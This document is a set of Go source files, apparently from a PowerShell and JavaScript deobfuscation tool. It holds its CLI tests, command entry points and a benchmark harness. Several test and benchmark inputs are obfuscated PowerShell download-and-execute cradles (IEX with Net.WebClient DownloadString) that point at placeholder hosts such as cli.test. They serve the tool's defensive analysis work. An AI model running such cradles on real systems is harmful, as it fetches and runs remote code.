	// -max-output 1: the alias expansion grows the layer by ~10 bytes,
	// deterministically tripping ErrOutputBudget.
	err := run([]string{"-max-output", "1", "-stats"},
		strings.NewReader("gci ."), &stdout, &stderr)
	if err == nil {
		t.Fatal("want an envelope error")
	}
	if !strings.Contains(err.Error(), "ErrOutputBudget") {
		t.Errorf("error missing taxonomy name: %v", err)
	}
	if !strings.Contains(stdout.String(), "gci .") {
		t.Errorf("partial result not emitted: %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), "run-interrupted=true") {
		t.Errorf("stats missing interruption flag: %q", stderr.String())
	}
}

func TestRunInvalidInput(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run(nil, strings.NewReader("while ("), &stdout, &stderr); err == nil {
		t.Error("expected error")
	}
}

func TestRunTooManyArgs(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run([]string{"a.ps1", "b.ps1"}, strings.NewReader(""), &stdout, &stderr); err == nil {
		t.Error("expected error")
	}
}
