package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRunStdin(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("i`ex ('write-ho'+'st clitest')")
	if err := run([]string{"-stats"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host clitest") {
		t.Errorf("stdout = %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), "tokens=") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

func TestRunFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "s.ps1")
	if err := os.WriteFile(path, []byte("IEX 'write-host fromfile'"), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if err := run([]string{path}, strings.NewReader(""), &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host fromfile") {
		t.Errorf("stdout = %q", stdout.String())
	}
}

func TestRunIOCs(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("$u = 'http'+'://cli.test/x.ps1'\n(New-Object Net.WebClient).DownloadString($u)")
	if err := run([]string{"-iocs"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stderr.String(), "http://cli.test/x.ps1") {
		t.Errorf("IOCs missing: %q", stderr.String())
	}
}

func TestRunLayers(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("IEX 'IEX ''write-host deep'''")
	if err := run([]string{"-layers"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "----- layer 1 -----") {
		t.Errorf("layers missing: %q", stdout.String())
	}
}

// TestRunPartialOutputOnEnvelopeViolation asserts that when the
// envelope is violated mid-run the CLI still prints the best recovered
// layer to stdout (the operator guidance: "accept the partial layer")
// while exiting non-zero with the taxonomy name.
func TestRunPartialOutputOnEnvelopeViolation(t *testing.T) {
	var stdout, stderr bytes.Buffer
	// -max-output 1: the alias expansion grows the layer by ~10 bytes,
	// deterministically tripping ErrOutputBudget.
	err := run([]string{"-max-output", "1", "-stats"},
		strings.NewReader("gci ."), &stdout, &stderr)
	if err == nil {
		t.Fatal("want an envelope error")
	}
	if !strings.Contains(err.Error(), "ErrOutputBudget") {
		t.Errorf("error missing taxonomy name: %v", err)
	}
	if !strings.Contains(stdout.String(), "gci .") {
		t.Errorf("partial result not emitted: %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), "run-interrupted=true") {
		t.Errorf("stats missing interruption flag: %q", stderr.String())
	}
}

func TestRunInvalidInput(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run(nil, strings.NewReader("while ("), &stdout, &stderr); err == nil {
		t.Error("expected error")
	}
}

func TestRunBatchMissingFile(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run([]string{"a.ps1", "b.ps1"}, strings.NewReader(""), &stdout, &stderr); err == nil {
		t.Error("expected error for nonexistent files")
	}
}

// TestRunBatchOrder asserts that multi-file runs print each result in
// argument order under a per-file header, regardless of worker count.
func TestRunBatchOrder(t *testing.T) {
	dir := t.TempDir()
	var paths []string
	for i, src := range []string{
		"IEX 'write-host alpha'",
		"IEX 'write-host beta'",
		"IEX 'write-host gamma'",
	} {
		p := filepath.Join(dir, string(rune('a'+i))+".ps1")
		if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	var stdout, stderr bytes.Buffer
	args := append([]string{"-jobs", "2"}, paths...)
	if err := run(args, strings.NewReader(""), &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	out := stdout.String()
	for _, want := range []string{"alpha", "beta", "gamma"} {
		if !strings.Contains(out, "Write-Host "+want) {
			t.Errorf("missing recovered script for %s: %q", want, out)
		}
	}
	// Headers appear in argument order.
	last := -1
	for _, p := range paths {
		i := strings.Index(out, "===== "+p+" =====")
		if i < 0 {
			t.Fatalf("missing header for %s: %q", p, out)
		}
		if i < last {
			t.Errorf("header for %s out of order", p)
		}
		last = i
	}
}

// TestRunBatchPartialFailure asserts that one invalid file fails its own
// slot (non-zero exit, per-file stderr line) without suppressing the
// sibling results.
func TestRunBatchPartialFailure(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.ps1")
	bad := filepath.Join(dir, "bad.ps1")
	if err := os.WriteFile(good, []byte("IEX 'write-host fine'"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bad, []byte("while ("), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	err := run([]string{good, bad}, strings.NewReader(""), &stdout, &stderr)
	if err == nil {
		t.Fatal("want a batch failure error")
	}
	if !strings.Contains(err.Error(), "1 of 2") {
		t.Errorf("error = %v", err)
	}
	if !strings.Contains(stdout.String(), "Write-Host fine") {
		t.Errorf("sibling result suppressed: %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), bad+":") {
		t.Errorf("per-file error missing: %q", stderr.String())
	}
}

// TestRunTrace asserts the -trace flag emits per-pass lines with cache
// counters on stderr.
func TestRunTrace(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("IEX 'IEX ''write-host traced'''")
	if err := run([]string{"-trace"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host traced") {
		t.Errorf("stdout = %q", stdout.String())
	}
	es := stderr.String()
	if !strings.Contains(es, "trace pass=") || !strings.Contains(es, "cache=") {
		t.Errorf("trace lines missing: %q", es)
	}
	if !strings.Contains(es, "ast") {
		t.Errorf("trace missing ast pass: %q", es)
	}
}

func TestRunLangFlag(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("var s = 'cli' + 'test'; use(s);")
	if err := run([]string{"-lang", "javascript"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "'clitest'") {
		t.Errorf("stdout = %q", stdout.String())
	}
	// An unknown language fails with the taxonomy name.
	stdout.Reset()
	stderr.Reset()
	err := run([]string{"-lang", "cobol"}, strings.NewReader("x"), &stdout, &stderr)
	if err == nil || !strings.Contains(err.Error(), "ErrBadLang") {
		t.Errorf("err = %v, want ErrBadLang", err)
	}
}

func TestRunLangAutoDetect(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("var x = String.fromCharCode(104, 105); console.log(x.split(''))")
	if err := run(nil, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "'hi'") {
		t.Errorf("auto-detected JS not decoded: %q", stdout.String())
	}
}
