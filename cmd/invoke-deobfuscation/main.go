// Command invoke-deobfuscation deobfuscates obfuscated scripts from
// files or stdin, printing the recovered scripts to stdout.
//
// Usage:
//
//	invoke-deobfuscation [flags] [script.ps1 ...]
//
// With no file argument the script is read from stdin. With several
// file arguments the scripts are deobfuscated concurrently on a worker
// pool (see -jobs) and printed in argument order, each under a
// "===== name =====" header.
//
// The -lang flag selects the language frontend ("powershell",
// "javascript", or an alias like ps1/js); without it each script's
// language is auto-detected.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"runtime"
	"runtime/pprof"
	"time"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func main() {
	if err := run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "invoke-deobfuscation:", err)
		os.Exit(1)
	}
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("invoke-deobfuscation", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		lang         = fs.String("lang", "", "language frontend: powershell, javascript, or an alias (empty = auto-detect per script)")
		showStats    = fs.Bool("stats", false, "print deobfuscation statistics to stderr")
		showLayers   = fs.Bool("layers", false, "print each intermediate layer")
		showTrace    = fs.Bool("trace", false, "print the per-pass pipeline trace (time, bytes, reverts, parse- and eval-cache hits) to stderr")
		noRename     = fs.Bool("no-rename", false, "disable identifier renaming")
		noReformat   = fs.Bool("no-reformat", false, "disable reformatting")
		noTrace      = fs.Bool("no-trace", false, "disable variable tracing (ablation)")
		iterations   = fs.Int("max-iterations", 0, "fixpoint iteration cap (0 = default)")
		iocs         = fs.Bool("iocs", false, "also print extracted IOCs to stderr")
		timeout      = fs.Duration("timeout", 0, "wall-clock deadline for the whole run (0 = none), e.g. 30s")
		maxOutput    = fs.Int("max-output", 0, "total output byte cap across unwrapped layers (0 = 64 MiB default)")
		jobs         = fs.Int("jobs", 0, "worker-pool size for multi-file runs (0 = GOMAXPROCS)")
		pieceWorkers = fs.Int("piece-workers", 0, "piece-evaluation workers per script (0 = GOMAXPROCS, 1 = sequential); outputs are identical at any setting")
		noSplice     = fs.Bool("no-splice", false, "disable batched subtree splicing, forcing full reparses (ablation)")
		noEvalCache  = fs.Bool("no-eval-cache", false, "disable piece-evaluation memoization (ablation)")
		cpuProfile   = fs.String("cpuprofile", "", "write a CPU profile to this file")
		memProfile   = fs.String("memprofile", "", "write an allocation profile to this file at exit")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	opts := &invokedeob.Options{
		Lang:                   *lang,
		DisableRename:          *noRename,
		DisableReformat:        *noReformat,
		DisableVariableTracing: *noTrace,
		DisableEvalCache:       *noEvalCache,
		MaxIterations:          *iterations,
		MaxOutputBytes:         *maxOutput,
		Jobs:                   *jobs,
		PieceWorkers:           *pieceWorkers,
		DisableSplice:          *noSplice,
	}
	if *cpuProfile != "" {
		f, err := os.Create(*cpuProfile)
		if err != nil {
			return err
		}
		defer f.Close()
		if err := pprof.StartCPUProfile(f); err != nil {
			return err
		}
		defer pprof.StopCPUProfile()
	}
	if *memProfile != "" {
		f, err := os.Create(*memProfile)
		if err != nil {
			return err
		}
		defer func() {
			runtime.GC() // materialize the final live set
			pprof.Lookup("allocs").WriteTo(f, 0)
			f.Close()
		}()
	}
	emit := emitOptions{layers: *showLayers, stats: *showStats, trace: *showTrace, iocs: *iocs}
	if len(fs.Args()) > 1 {
		return runBatch(fs.Args(), opts, *timeout, emit, stdout, stderr)
	}
	script, err := readInput(fs.Args(), stdin)
	if err != nil {
		return err
	}
	ctx := context.Background()
	if *timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *timeout)
		defer cancel()
	}
	res, err := invokedeob.DeobfuscateContext(ctx, script, opts)
	if err != nil {
		// Envelope violations exit non-zero with the taxonomy name so
		// batch pipelines can triage failures mechanically. When a
		// partial result survived the interruption, emit it first: the
		// partial output is usually the payload of the outermost layers
		// and is exactly what operators are told to accept (README
		// "accept the partial layer"). The non-zero exit still signals
		// the violation.
		if name := invokedeob.ErrorName(err); name != "" {
			if res != nil {
				emitResult(stdout, stderr, res, emit)
			}
			return fmt.Errorf("%s: %w", name, err)
		}
		return err
	}
	emitResult(stdout, stderr, res, emit)
	return nil
}

// runBatch deobfuscates several files concurrently, printing results in
// argument order. Per-script envelope failures are reported per file on
// stderr; the command exits non-zero if any script failed.
func runBatch(files []string, opts *invokedeob.Options, timeout time.Duration, emit emitOptions, stdout, stderr io.Writer) error {
	// Per-script deadline: in batch mode -timeout bounds each script,
	// not the whole batch, so one hostile file cannot eat the budget of
	// the files queued behind it.
	if timeout > 0 {
		opts.ScriptTimeout = timeout
	}
	inputs := make([]invokedeob.BatchInput, len(files))
	for i, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			return err
		}
		inputs[i] = invokedeob.BatchInput{Name: f, Script: string(b)}
	}
	results := invokedeob.DeobfuscateBatch(context.Background(), inputs, opts)
	failures := 0
	for _, r := range results {
		fmt.Fprintf(stdout, "===== %s =====\n", r.Name)
		if r.Err != nil {
			failures++
			name := invokedeob.ErrorName(r.Err)
			if name == "" {
				name = "error"
			}
			fmt.Fprintf(stderr, "%s: %s: %v\n", r.Name, name, r.Err)
		}
		if r.Result != nil {
			emitNamed(stdout, stderr, r.Name, r.Result, emit)
		}
	}
	if failures > 0 {
		return fmt.Errorf("%d of %d scripts failed", failures, len(results))
	}
	return nil
}

// emitOptions selects the optional outputs.
type emitOptions struct {
	layers bool
	stats  bool
	trace  bool
	iocs   bool
}

// emitResult prints the recovered script (and optional layers, stats,
// trace and IOCs) for both complete runs and partial results after an
// envelope violation.
func emitResult(stdout, stderr io.Writer, res *invokedeob.Result, emit emitOptions) {
	emitNamed(stdout, stderr, "", res, emit)
}

func emitNamed(stdout, stderr io.Writer, name string, res *invokedeob.Result, emit emitOptions) {
	prefix := ""
	if name != "" {
		prefix = name + ": "
	}
	if emit.layers {
		for i, layer := range res.Layers {
			fmt.Fprintf(stdout, "----- layer %d -----\n%s\n", i+1, layer)
		}
		fmt.Fprintln(stdout, "----- final -----")
	}
	fmt.Fprintln(stdout, res.Script)
	if emit.stats {
		s := res.Stats
		fmt.Fprintf(stderr,
			"%stokens=%d pieces=%d/%d vars traced=%d inlined=%d layers=%d renamed=%d iterations=%d time=%s\n",
			prefix, s.TokensNormalized, s.PiecesRecovered, s.PiecesAttempted,
			s.VariablesTraced, s.VariablesInlined, s.LayersUnwrapped,
			s.IdentifiersRenamed, s.Iterations, s.Duration)
		if s.EvalCacheHits+s.EvalCacheMisses+s.EvalCacheSkips > 0 {
			fmt.Fprintf(stderr,
				"%sevalcache: hits=%d misses=%d skips=%d\n",
				prefix, s.EvalCacheHits, s.EvalCacheMisses, s.EvalCacheSkips)
		}
		if s.PiecesTimedOut+s.PiecesPanicked+s.PiecesOverBudget > 0 || s.TimedOut {
			fmt.Fprintf(stderr,
				"%senvelope: timed-out-pieces=%d panicked=%d over-budget=%d run-interrupted=%t\n",
				prefix, s.PiecesTimedOut, s.PiecesPanicked, s.PiecesOverBudget, s.TimedOut)
		}
	}
	if emit.trace {
		for _, p := range res.PassTrace {
			fmt.Fprintf(stderr,
				"%strace pass=%-8s runs=%d time=%s in=%dB out=%dB reverts=%d cache=%d/%d hits eval=%d/%d hits (%d skipped)\n",
				prefix, p.Pass, p.Runs, p.Duration, p.BytesIn, p.BytesOut,
				p.Reverts, p.CacheHits, p.CacheHits+p.CacheMisses,
				p.EvalHits, p.EvalHits+p.EvalMisses, p.EvalSkips)
		}
	}
	if emit.iocs {
		printIOCs(stderr, invokedeob.ExtractIOCs(res.Script))
	}
}

func readInput(args []string, stdin io.Reader) (string, error) {
	if len(args) == 1 {
		b, err := os.ReadFile(args[0])
		if err != nil {
			return "", err
		}
		return string(b), nil
	}
	b, err := io.ReadAll(stdin)
	if err != nil {
		return "", err
	}
	return string(b), nil
}

func printIOCs(w io.Writer, iocs *invokedeob.IOCs) {
	section := func(name string, items []string) {
		for _, it := range items {
			fmt.Fprintf(w, "%s\t%s\n", name, it)
		}
	}
	section("url", iocs.URLs)
	section("ip", iocs.IPs)
	section("ps1", iocs.Ps1Files)
	section("powershell", iocs.PowerShellCommands)
}
