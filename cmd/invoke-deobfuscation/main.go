// Command invoke-deobfuscation deobfuscates a PowerShell script from a
// file or stdin, printing the recovered script to stdout.
//
// Usage:
//
//	invoke-deobfuscation [flags] [script.ps1]
//
// With no file argument the script is read from stdin.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func main() {
	if err := run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr); err != nil {
		fmt.Fprintln(os.Stderr, "invoke-deobfuscation:", err)
		os.Exit(1)
	}
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) error {
	fs := flag.NewFlagSet("invoke-deobfuscation", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		showStats  = fs.Bool("stats", false, "print deobfuscation statistics to stderr")
		showLayers = fs.Bool("layers", false, "print each intermediate layer")
		noRename   = fs.Bool("no-rename", false, "disable identifier renaming")
		noReformat = fs.Bool("no-reformat", false, "disable reformatting")
		noTrace    = fs.Bool("no-trace", false, "disable variable tracing (ablation)")
		iterations = fs.Int("max-iterations", 0, "fixpoint iteration cap (0 = default)")
		iocs       = fs.Bool("iocs", false, "also print extracted IOCs to stderr")
		timeout    = fs.Duration("timeout", 0, "wall-clock deadline for the whole run (0 = none), e.g. 30s")
		maxOutput  = fs.Int("max-output", 0, "total output byte cap across unwrapped layers (0 = 64 MiB default)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	script, err := readInput(fs.Args(), stdin)
	if err != nil {
		return err
	}
	opts := &invokedeob.Options{
		DisableRename:          *noRename,
		DisableReformat:        *noReformat,
		DisableVariableTracing: *noTrace,
		MaxIterations:          *iterations,
		MaxOutputBytes:         *maxOutput,
	}
	ctx := context.Background()
	if *timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *timeout)
		defer cancel()
	}
	res, err := invokedeob.DeobfuscateContext(ctx, script, opts)
	if err != nil {
		// Envelope violations exit non-zero with the taxonomy name so
		// batch pipelines can triage failures mechanically. When a
		// partial result survived the interruption, emit it first: the
		// partial output is usually the payload of the outermost layers
		// and is exactly what operators are told to accept (README
		// "accept the partial layer"). The non-zero exit still signals
		// the violation.
		if name := invokedeob.ErrorName(err); name != "" {
			if res != nil {
				emitResult(stdout, stderr, res, *showLayers, *showStats)
			}
			return fmt.Errorf("%s: %w", name, err)
		}
		return err
	}
	emitResult(stdout, stderr, res, *showLayers, *showStats)
	if *iocs {
		printIOCs(stderr, invokedeob.ExtractIOCs(res.Script))
	}
	return nil
}

// emitResult prints the recovered script (and optional layers/stats)
// for both complete runs and partial results after an envelope
// violation.
func emitResult(stdout, stderr io.Writer, res *invokedeob.Result, showLayers, showStats bool) {
	if showLayers {
		for i, layer := range res.Layers {
			fmt.Fprintf(stdout, "----- layer %d -----\n%s\n", i+1, layer)
		}
		fmt.Fprintln(stdout, "----- final -----")
	}
	fmt.Fprintln(stdout, res.Script)
	if showStats {
		s := res.Stats
		fmt.Fprintf(stderr,
			"tokens=%d pieces=%d/%d vars traced=%d inlined=%d layers=%d renamed=%d iterations=%d time=%s\n",
			s.TokensNormalized, s.PiecesRecovered, s.PiecesAttempted,
			s.VariablesTraced, s.VariablesInlined, s.LayersUnwrapped,
			s.IdentifiersRenamed, s.Iterations, s.Duration)
		if s.PiecesTimedOut+s.PiecesPanicked+s.PiecesOverBudget > 0 || s.TimedOut {
			fmt.Fprintf(stderr,
				"envelope: timed-out-pieces=%d panicked=%d over-budget=%d run-interrupted=%t\n",
				s.PiecesTimedOut, s.PiecesPanicked, s.PiecesOverBudget, s.TimedOut)
		}
	}
}

func readInput(args []string, stdin io.Reader) (string, error) {
	if len(args) > 1 {
		return "", fmt.Errorf("expected at most one script file, got %d", len(args))
	}
	if len(args) == 1 {
		b, err := os.ReadFile(args[0])
		if err != nil {
			return "", err
		}
		return string(b), nil
	}
	b, err := io.ReadAll(stdin)
	if err != nil {
		return "", err
	}
	return string(b), nil
}

func printIOCs(w io.Writer, iocs *invokedeob.IOCs) {
	section := func(name string, items []string) {
		for _, it := range items {
			fmt.Fprintf(w, "%s\t%s\n", name, it)
		}
	}
	section("url", iocs.URLs)
	section("ip", iocs.IPs)
	section("ps1", iocs.Ps1Files)
	section("powershell", iocs.PowerShellCommands)
}
