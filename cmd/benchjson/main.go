// Command benchjson measures the pipeline's core performance
// benchmarks in-process and writes a machine-readable JSON report
// (BENCH_pr3.json by default, see `make bench-json`). The report
// carries ns/op, allocs/op and bytes/op for the single-script,
// 16-sample batch and duplicated-family batch benchmarks, plus the
// parses-per-run and evaluation-cache counters that the performance
// acceptance criteria gate on, and the frozen PR 2 baseline the
// reductions are computed against.
//
// Usage:
//
//	benchjson [-o BENCH_pr3.json] [-benchtime 1s]
//	benchjson -contended [-o BENCH_pr8.json]   # cache-tier contention report
//	benchjson -pieces [-o BENCH_pr9.json]      # splice + piece-pool report
//	benchjson -emit-corpus DIR    # write the 24-sample profile corpus
//
// The -contended mode (see `make bench-contended`) measures the
// sharded cache tier under a many-goroutine workload: single-mutex vs
// sharded parse-cache ns/op at simulated multi-core GOMAXPROCS, the
// duplicate-wave coalescing guarantee (at most one evaluation per
// distinct script), and a full in-process kill/restart cycle through
// the warm-restart snapshot. It writes BENCH_pr8.json.
//
// The -pieces mode (see `make bench-pieces`) measures the batched
// splice and parallel piece recovery: parses per run on the 3-layer
// guard script, splice vs fallback counts across the corpus, and
// default vs serial-baseline ns/op at 1 and >=4 simulated cores. It
// writes BENCH_pr9.json.
//
// The -emit-corpus mode writes the deterministic 24-sample corpus as
// .ps1 files for `make profile`, which feeds them through the CLI
// under -cpuprofile/-memprofile.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"testing"
	"time"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

// benchScript is the paper's case-study script, kept in sync with
// bench_test.go's BenchmarkDeobfuscate.
const benchScript = "I`eX (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n" +
	"$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
	".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient).downloadstring($sdfs)\n"

// pr2Baseline freezes the tip-of-PR-2 numbers (commit "Pass-pipeline
// architecture", measured with `go test -bench . -benchmem` on the
// same class of machine) that this PR's perf acceptance is gated
// against.
var pr2Baseline = benchMetrics{
	NsPerOp:     343698,
	AllocsPerOp: 2155,
	BytesPerOp:  189963,
}

type evalCacheMetrics struct {
	Hits    int64   `json:"hits"`
	Misses  int64   `json:"misses"`
	Skips   int64   `json:"skips"`
	HitRate float64 `json:"hit_rate"`
}

type benchMetrics struct {
	NsPerOp     int64             `json:"ns_per_op"`
	AllocsPerOp int64             `json:"allocs_per_op"`
	BytesPerOp  int64             `json:"bytes_per_op"`
	ParsesPerOp int64             `json:"parses_per_run,omitempty"`
	EvalCache   *evalCacheMetrics `json:"eval_cache,omitempty"`
}

type report struct {
	Generated string                  `json:"generated"`
	GoVersion string                  `json:"go_version"`
	GOOS      string                  `json:"goos"`
	GOARCH    string                  `json:"goarch"`
	Bench     map[string]benchMetrics `json:"benchmarks"`
	// DuplicatedSpeedup is cache-off ns/op divided by cache-on ns/op
	// on the duplicated-family batch (acceptance: >= 1.5).
	DuplicatedSpeedup float64 `json:"duplicated_batch_speedup"`
	// BaselinePR2 is the frozen single-script baseline from the
	// previous PR; AllocsReductionPct is the relative allocs/op
	// improvement against it (acceptance: >= 20).
	BaselinePR2        benchMetrics `json:"baseline_pr2"`
	AllocsReductionPct float64      `json:"allocs_reduction_pct"`
}

func main() {
	// Register the testing flags (test.benchtime in particular) so
	// testing.Benchmark can be tuned outside a test binary.
	testing.Init()
	var (
		out        = flag.String("o", "BENCH_pr3.json", "output file")
		benchtime  = flag.Duration("benchtime", time.Second, "per-benchmark measuring time")
		emitCorpus = flag.String("emit-corpus", "", "write the 24-sample profiling corpus to this directory and exit")
		contended  = flag.Bool("contended", false, "measure the sharded cache tier under contention and write the BENCH_pr8 report")
		pieces     = flag.Bool("pieces", false, "measure batched splicing and the parallel piece pool and write the BENCH_pr9 report")
	)
	flag.Parse()
	if *emitCorpus != "" {
		if err := writeCorpus(*emitCorpus); err != nil {
			fmt.Fprintln(os.Stderr, "benchjson:", err)
			os.Exit(1)
		}
		return
	}
	if *contended {
		rep, err := measureContended(*benchtime)
		if err == nil {
			err = writeReport(*out, rep)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchjson:", err)
			os.Exit(1)
		}
		fmt.Printf("wrote %s: parse contention speedup %.2fx at %d simulated cores (%d shards), "+
			"duplicate wave %.2f evals/distinct (%d coalesced waits), restart warm hits %d\n",
			*out, rep.ParseContended.Speedup, rep.SimulatedCores, rep.ParseContended.Shards,
			rep.DuplicateWave.EvaluationsPerDistinct, rep.DuplicateWave.CoalescedWaits,
			rep.WarmRestart.FirstRunWarmHits)
		return
	}
	if *pieces {
		rep, err := measurePieces(*benchtime)
		if err == nil {
			err = writeReport(*out, rep)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchjson:", err)
			os.Exit(1)
		}
		fmt.Printf("wrote %s: %d parses/run (budget %d), splice fallback rate %.2f (%d/%d), "+
			"%d pieces on the pool, speedup vs PR 8 %.2fx at 1 core, %.2fx at %d cores\n",
			*out, rep.ParseAmortization.ParsesPerRun, rep.ParseAmortization.Budget,
			rep.Splice.FallbackRate, rep.Splice.SpliceFallbacks,
			rep.Splice.SplicesApplied+rep.Splice.SpliceFallbacks,
			rep.Workload.PiecesParallel,
			rep.SingleCore.Speedup, rep.MultiCore.Speedup, rep.MultiCore.Cores)
		// The structural acceptance criteria are machine-independent, so
		// the mode itself enforces them — `make bench-pieces-smoke` (and
		// CI) fail when either regresses. The ns/op speedups are only
		// meaningful against the frozen baseline's machine class and are
		// reported, not asserted.
		if rep.ParseAmortization.ParsesPerRun > rep.ParseAmortization.Budget {
			fmt.Fprintf(os.Stderr, "benchjson: parses/run %d exceeds budget %d\n",
				rep.ParseAmortization.ParsesPerRun, rep.ParseAmortization.Budget)
			os.Exit(1)
		}
		if rep.Splice.FallbackRate >= 0.2 {
			fmt.Fprintf(os.Stderr, "benchjson: splice fallback rate %.2f, want < 0.20\n",
				rep.Splice.FallbackRate)
			os.Exit(1)
		}
		return
	}
	rep, err := measure(*benchtime)
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
	if err := writeReport(*out, rep); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
	fmt.Printf("wrote %s: single %d allocs/op (PR2 %d, -%.1f%%), duplicated-batch speedup %.2fx\n",
		*out, rep.Bench["deobfuscate"].AllocsPerOp, rep.BaselinePR2.AllocsPerOp,
		rep.AllocsReductionPct, rep.DuplicatedSpeedup)
}

// writeReport marshals any report shape to path as indented JSON.
func writeReport(path string, rep any) error {
	b, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		return err
	}
	b = append(b, '\n')
	return os.WriteFile(path, b, 0o644)
}

// writeCorpus materializes the deterministic 24-sample corpus used by
// `make profile` as numbered .ps1 files.
func writeCorpus(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	samples := invokedeob.GenerateCorpus(20220627, 24)
	for i, s := range samples {
		name := filepath.Join(dir, fmt.Sprintf("%03d_%s.ps1", i, s.ID))
		if err := os.WriteFile(name, []byte(s.Source), 0o644); err != nil {
			return err
		}
	}
	fmt.Printf("wrote %d samples to %s\n", len(samples), dir)
	return nil
}

func measure(benchtime time.Duration) (*report, error) {
	rep := &report{
		Generated: time.Now().UTC().Format(time.RFC3339),
		GoVersion: runtime.Version(),
		GOOS:      runtime.GOOS,
		GOARCH:    runtime.GOARCH,
		Bench:     map[string]benchMetrics{},
	}

	// Single-script: throughput plus one instrumented run for the
	// parses-per-run and eval-cache counters.
	single := run(benchtime, func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := invokedeob.Deobfuscate(benchScript, nil); err != nil {
				b.Fatal(err)
			}
		}
	})
	res, err := invokedeob.Deobfuscate(benchScript, nil)
	if err != nil {
		return nil, err
	}
	var parses int64
	for _, p := range res.PassTrace {
		parses += p.CacheMisses
	}
	single.ParsesPerOp = parses
	single.EvalCache = evalStats(res.Stats)
	rep.Bench["deobfuscate"] = single

	// 16-sample generated batch at 4 workers.
	batchInputs := corpusInputs(1, 16, 1)
	rep.Bench["batch_jobs4"] = run(benchtime, batchBody(batchInputs, &invokedeob.Options{Jobs: 4}))

	// Duplicated-family batch: 4 distinct samples x 4 copies,
	// sequential so the speedup isolates the cache.
	dupInputs := corpusInputs(1, 4, 4)
	on := run(benchtime, batchBody(dupInputs, &invokedeob.Options{Jobs: 1}))
	off := run(benchtime, batchBody(dupInputs, &invokedeob.Options{Jobs: 1, DisableEvalCache: true}))
	on.EvalCache = batchEvalStats(dupInputs, &invokedeob.Options{Jobs: 1})
	rep.Bench["batch_duplicated_cache_on"] = on
	rep.Bench["batch_duplicated_cache_off"] = off
	if on.NsPerOp > 0 {
		rep.DuplicatedSpeedup = float64(off.NsPerOp) / float64(on.NsPerOp)
	}

	rep.BaselinePR2 = pr2Baseline
	if pr2Baseline.AllocsPerOp > 0 {
		rep.AllocsReductionPct = 100 * (1 - float64(single.AllocsPerOp)/float64(pr2Baseline.AllocsPerOp))
	}
	return rep, nil
}

// run executes one benchmark body under testing.Benchmark with
